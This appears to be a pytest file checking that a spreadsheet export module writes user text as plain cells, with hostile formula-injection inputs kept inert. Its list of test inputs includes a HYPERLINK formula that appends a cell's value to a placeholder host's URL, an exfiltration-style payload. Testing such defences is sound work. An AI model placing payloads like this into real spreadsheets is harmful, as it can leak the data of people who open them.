"""communityops.excel: user text reaches Excel as text, never as a live formula or an error."""

from io import BytesIO

import pytest
from openpyxl import load_workbook

from communityops.excel import xlsx_bytes

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?x="&A1,"点我")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


def _cells(content: bytes):
    sheet = load_workbook(BytesIO(content)).worksheets[0]
    return [list(row) for row in sheet.iter_rows()]


@pytest.mark.parametrize("text", HOSTILE)
def test_user_text_is_written_as_a_text_cell(text):
    rows = _cells(xlsx_bytes([text, "备注"], [[text, "普通文字"], [1, None]], title="登记"))
    header, first, second = rows
    for cell in (header[0], first[0]):
        assert cell.data_type == "s"
        assert cell.value == text.replace("\r", "\n")  # XML keeps no bare carriage return
    assert first[1].value == "普通文字" and first[1].data_type == "s"
    assert second[0].value == 1 and second[0].data_type == "n"


def test_other_values_keep_their_types():
    import datetime
    from decimal import Decimal

    rows = _cells(xlsx_bytes(["a", "b", "c", "d"], [[datetime.date(2025, 3, 1), Decimal("1.5"), True, "="]]))
    date, number, flag, lone = rows[1]
    assert date.is_date and number.value == 1.5 and flag.value is True
    assert lone.value == "=" and lone.data_type == "s"
